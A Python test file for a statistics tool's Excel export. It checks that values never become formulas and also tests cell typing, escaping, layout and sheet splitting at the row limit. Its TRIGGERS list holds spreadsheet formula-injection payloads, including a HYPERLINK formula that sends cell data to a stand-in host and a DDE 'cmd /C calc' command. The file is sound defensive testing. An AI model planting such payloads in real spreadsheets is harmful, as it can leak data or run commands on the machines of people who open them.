"""Workbooks people open: data stay data (no formula from any value), the layout, splitting at the row limit."""

import io
import zipfile

import openpyxl
import pandas as pd
import pytest

from statreturns.engine import ISSUE_COLUMNS, RULE_STATUS_COLUMNS, RunResult
from statreturns.report.xlsx import workbook_bytes
from statreturns.validate import write_issues_xlsx
from statreturns.workbook import EXCEL_MAX_CHARS, Sheet, column_letter, sheet_parts, write_workbook
from tests.report.frames import issue, run

# Each character a spreadsheet treats as the start of a formula or a command, and the look-alikes.
TRIGGERS = ['=HYPERLINK("http://example.invalid/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
            "\t=1+1", "\r=1+1", "=1+1"]


def _book(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def _cells(book: openpyxl.Workbook):
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _result(rows: list[dict]) -> RunResult:
    status = pd.DataFrame([("cin", 2026, t, "error", "ran", t, 1) for t in TRIGGERS], columns=RULE_STATUS_COLUMNS)
    return RunResult(issues=pd.DataFrame(rows, columns=ISSUE_COLUMNS), rule_status=status)


def _trigger_rows() -> list[dict]:
    # Every trigger as the child id, as the rule code, as the field and as the message (free text).
    rows = []
    for i, t in enumerate(TRIGGERS):
        rows.append(issue(t, "100", message="ok", row=i))
        rows.append(issue("C1", t, field=t, message=t, row=i))
    return rows


def test_issues_workbook_writes_every_trigger_as_text(tmp_path):
    path = write_issues_xlsx(_result(_trigger_rows()), tmp_path / "issues.xlsx")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Findings", "Counts by rule", "Rules run"]
    assert not [c.coordinate for c in _cells(book) if c.data_type == "f"]
    findings = book["Findings"]
    header = [c.value for c in findings[1]]
    assert header == [c.title() for c in ISSUE_COLUMNS]
    ids = [findings.cell(row=r, column=header.index("Child_Id") + 1) for r in range(2, findings.max_row + 1)]
    assert {c.value for c in ids} >= set(TRIGGERS) and {c.data_type for c in ids} == {"s"}
    messages = {c.value for c in book["Counts by rule"]["C"][1:]}
    assert messages >= set(TRIGGERS)
    reasons = [c.value for c in book["Rules run"]["F"][1:]]
    assert reasons == TRIGGERS


def test_report_workbook_writes_every_trigger_as_text():
    book = _book(workbook_bytes(run(_trigger_rows())))
    assert not [c.coordinate for c in _cells(book) if c.data_type == "f"]
    children = {c.value for c in book["By child"]["A"][1:]}
    assert children >= set(TRIGGERS)
    messages = {c.value for c in book["By rule"]["D"][1:]}
    assert messages >= set(TRIGGERS)


def test_numbers_stay_numbers_and_text_that_looks_like_a_number_stays_text():
    frame = pd.DataFrame({"text": ["0012", "-2+3", "1e5", None, ""], "count": [1, 2, 3, 4, 5],
                          "mixed": [7, "7", None, 2.5, "x"], "ratio": [0.1, None, 1 / 3, 2.0, float("inf")]})
    buffer = io.BytesIO()
    write_workbook(buffer, [Sheet("S", frame)])
    rows = [[(c.value, c.data_type) for c in r] for r in _book(buffer.getvalue())["S"].iter_rows(min_row=2)]
    assert [r[0] for r in rows] == [("0012", "s"), ("-2+3", "s"), ("1e5", "s"), (None, "n"), (None, "n")]
    assert [r[1] for r in rows] == [(n, "n") for n in range(1, 6)]
    assert [r[2] for r in rows] == [(7, "n"), ("7", "s"), (None, "n"), (2.5, "n"), ("x", "s")]
    assert [r[3][0] for r in rows] == [0.1, None, pytest.approx(1 / 3), 2, None]


def test_xml_specials_control_characters_and_long_text_do_not_break_the_file():
    values = ["a&b<c>\"'", "x\x01y", "tab\tand\nline", " padded ", "z" * (EXCEL_MAX_CHARS + 10), "caf\u00e9 \u2713"]
    buffer = io.BytesIO()
    write_workbook(buffer, [Sheet("S", pd.DataFrame({"v": values}))])
    got = [c.value for c in _book(buffer.getvalue())["S"]["A"][1:]]
    # Excel's own escape for a character XML cannot carry (_xHHHH_); text cut at Excel's cell limit.
    assert got == ["a&b<c>\"'", "x_x0001_y", "tab\tand\nline", " padded ", "z" * EXCEL_MAX_CHARS, "caf\u00e9 \u2713"]


def test_layout_header_frozen_filtered_and_widths():
    frame = pd.DataFrame({"Message": ["m"] * 3, "Code": ["a", "b", "c"]})
    buffer = io.BytesIO()
    write_workbook(buffer, [Sheet("Findings", frame, widths={"Message": 60})])
    sheet = _book(buffer.getvalue())["Findings"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:B4"
    assert [c.value for c in sheet[1]] == ["Message", "Code"]
    assert round(sheet.column_dimensions["A"].width) == 61 and round(sheet.column_dimensions["B"].width) == 15


def test_a_sheet_over_the_row_limit_continues_on_named_sheets_with_every_row_in_order():
    frame = pd.DataFrame({"n": range(10), "t": [f"r{i}" for i in range(10)]})
    buffer = io.BytesIO()
    names = write_workbook(buffer, [Sheet("Findings", frame), Sheet("Counts", frame.head(2))], max_rows=4)
    assert names == ["Findings (1 of 4)", "Findings (2 of 4)", "Findings (3 of 4)", "Findings (4 of 4)", "Counts"]
    book = _book(buffer.getvalue())
    assert book.sheetnames == names
    back = [r for name in names[:4] for r in book[name].iter_rows(min_row=2, values_only=True)]
    assert back == list(frame.itertuples(index=False, name=None))
    assert all([c.value for c in book[name][1]] == ["n", "t"] for name in names)
    assert book["Findings (4 of 4)"].max_row == 2  # 3 + 3 + 3 + 1 data rows


def test_exactly_at_the_row_limit_is_one_sheet():
    frame = pd.DataFrame({"n": range(3)})
    assert [name for name, _ in sheet_parts(Sheet("S", frame), max_rows=4)] == ["S"]
    assert [name for name, _ in sheet_parts(Sheet("S", pd.concat([frame, frame.head(1)])), max_rows=4)] == [
        "S (1 of 2)", "S (2 of 2)"]
    long_name = sheet_parts(Sheet("A sheet name of thirty-one chars", pd.DataFrame({"n": range(25)})), max_rows=3)
    assert [len(name) for name, _ in long_name] == [31] * 13 and long_name[-1][0].endswith(" (13 of 13)")


def test_empty_frame_has_its_header_and_same_input_gives_same_bytes():
    frame = pd.DataFrame({"a": pd.Series(dtype="str"), "b": pd.Series(dtype="int64")})
    one, two = io.BytesIO(), io.BytesIO()
    write_workbook(one, [Sheet("S", frame)])
    write_workbook(two, [Sheet("S", frame)])
    assert one.getvalue() == two.getvalue()
    sheet = _book(one.getvalue())["S"]
    assert [c.value for c in sheet[1]] == ["a", "b"] and sheet.max_row == 1
    assert zipfile.ZipFile(io.BytesIO(one.getvalue())).testzip() is None


def test_column_letters():
    assert [column_letter(i) for i in (0, 25, 26, 51, 52, 701, 702)] == ["A", "Z", "AA", "AZ", "BA", "ZZ", "AAA"]
